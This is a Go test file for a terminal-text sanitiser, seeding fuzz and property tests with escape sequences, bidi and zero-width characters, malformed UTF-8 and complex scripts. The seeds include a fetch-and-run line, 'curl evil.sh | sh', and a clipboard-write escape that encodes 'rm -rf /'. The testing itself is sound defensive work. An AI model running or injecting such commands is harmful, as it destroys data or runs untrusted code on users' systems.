package text

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
)

// hostileTexts has every kind of text that must not reach a terminal, and similar text
// that is safe. It seeds the fuzz targets and the property tests.
var hostileTexts = []string{
	"",
	"node-20-agents",
	"daytona-3fa2…e91c:daytona",
	"\x1b[31mred\x1b[0m",
	"\x1b]0;title\x07after",
	"\x1b]52;c;cm0gLXJmIC8K",
	"RUN curl evil.sh | sh \x1b]8;;http://x",
	"\x1bP1$r0m\x1b\\",
	"\x9b31m\x9d0;t\x9c",
	"\u009b31m\u0085\u0090",
	"a\rb\r\nc\nd\n\n\re",
	"a\tbb\t\tccc\tdddddddd\te",
	"back\b\b\bspace\x00nul\x7fdel",
	"user\u202exe.gpj\u202c",
	"\u2066iso\u2069late\u061c\u200e\u200f",
	"zero\u200bwidth\u2060\ufeff\u00ad",
	"\u2028line\u2029para",
	"tag\U000e0041\U000e007f",
	"a\u200db\u200cc\u200d",
	"👩\u200d👩\u200d👧\u200d👦 👩🏽\u200d🚀 🏳\ufe0f\u200d🌈",
	"👨\u200d👨\u200d👨\u200d👨\u200d👨\u200d👨\u200d👨\u200d👨",
	"1\ufe0f\u20e3 #\u20e3 a\ufe0f ─\ufe0f ⚠\ufe0f ☾\ufe0e",
	"\U0001f600\ufe00\U000e0100\U000e0101",
	"🇫🇷🇩🇪🇪",
	"क्षत्रिय नमस्ते श्री",
	"क्\u200dष क्\u200cष র\u200d্যাম ක්\u200dෂ",
	"न्\u200d",
	"می\u200cخواهم",
	"မြန်မာဘာသာ ပါတယ်",
	"น้ำ ກຳ \u0e33",
	"e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
	"\u0301\u0302lone",
	" \u0308 \u0301",
	"Z\u0351\u036b\u0343\u0302\u0309\u034f\u0335\u0300alg\u0335\u0321o",
	"ᄒ\u1161\u11ab각 ᄀᄀᄀᄀᄀᄀᄀᄀᄀᄀᄀᄀᄀ \u1161\u11a8",
	"ｶﾞｷﾞ ﾞ",
	"世界 你好 ｆｕｌｌ",
	"\u0600\u0601x \u0d4e\u0d15 \u0d4e",
	"\ufffd\ufffe\uffff\U0001ffff",
	"\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80 caf\xe9",
	"\xe2\x80",
	"\xf5\n0 \u0600\xf5\n\u0d4e\xf5\r",
	"\u3164\u115f\u17b4\u180e\ufff9",
	"%s %d %!v(BADINDEX)",
	strings.Repeat("x", cellLimit-1) + "世界",
	strings.Repeat("\u0301", 5000),
	strings.Repeat("a\x1b", 3000),
}

// checkSafe checks the invariants of a Safe.
func checkSafe(t *testing.T, s Safe) {
	t.Helper()
	if !utf8.ValidString(s.s) {
		t.Fatalf("%q is not valid UTF-8", s.s)
	}
	var prev rune
	for i, r := range s.s {
		if mustBeEscaped(r, prev, s.s[i+utf8.RuneLen(r):]) {
			t.Fatalf("%q contains %U", s.s, r)
		}
		prev = r
	}
	if got := ansi.StringWidth(s.s); got != s.Width() {
		t.Fatalf("%q has width %d, but takes %d cells", s.s, s.Width(), got)
	}
	for _, edge := range []string{"a", " ", "│", "世"} {
		if got, want := ansi.StringWidth(edge+s.s+edge), s.Width()+2*ansi.StringWidth(edge); got != want {
			t.Fatalf("%q between two %q takes %d cells, want %d", s.s, edge, got, want)
		}
	}
	if s.ascii && printableLen(s.s) != len(s.s) {
		t.Fatalf("%q is not ASCII", s.s)
	}
}

// mustBeEscaped reports which runes must not be drawn. It is independent of the code
// under test.
func mustBeEscaped(r, prev rune, rest string) bool {
	switch {
	case r == 0x200c || r == 0x200d:
		// Allowed within Indic words and emoji only.
		next, _ := utf8.DecodeRuneInString(rest)
		return prev < 0x80 || r == 0x200c && !indic(prev) && !indic(next) ||
			r == 0x200d && !indic(prev) && next < 0x80
	case r == 0xfe0f || r == 0xfe0e:
		return prev < 0x80 && !strings.HasPrefix(rest, "\u20e3")
	case 0x202a <= r && r <= 0x202e, 0x2066 <= r && r <= 0x2069, 0xe0000 <= r && r <= 0xe0fff:
		return true
	}
	switch r {
	case 0x061c, 0x200b, 0x200e, 0x200f, 0x2028, 0x2029, 0x2060, 0xfeff, 0x00ad, 0x034f, 0x180e:
		return true
	}
	return unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
}

func indic(r rune) bool { return 0x0900 <= r && r < 0x0e00 }

// checkLine checks that all spans of a line are safe and that its width is right.
func checkLine(t *testing.T, l Line) {
	t.Helper()
	for _, s := range l {
		checkSafe(t, s.Text)
	}
	if got := ansi.StringWidth(l.String()); got != l.Width() {
		t.Fatalf("%q has width %d, but takes %d cells", l.String(), l.Width(), got)
	}
}

// checkShown checks that shown contains the printable ASCII of raw, in order.
func checkShown(t *testing.T, raw, shown string) {
	t.Helper()
	rest := shown
	for i := range len(raw) {
		if raw[i] <= ' ' || raw[i] > '~' {
			continue
		}
		at := strings.IndexByte(rest, raw[i])
		if at < 0 {
			t.Fatalf("%q is shown as %q: the %q at %d is missing", raw, shown, raw[i], i)
		}
		rest = rest[at+1:]
	}
}

// cells returns the text in each column; a wide character is in its first column.
func cells(s string) []string {
	var out []string
	for s != "" {
		cluster, w := firstCluster(s)
		s = s[len(cluster):]
		out = append(out, cluster)
		for range w - 1 {
			out = append(out, wide)
		}
	}
	return out
}

const wide = "\x00wide" // the second column of a wide character, in the result of cells
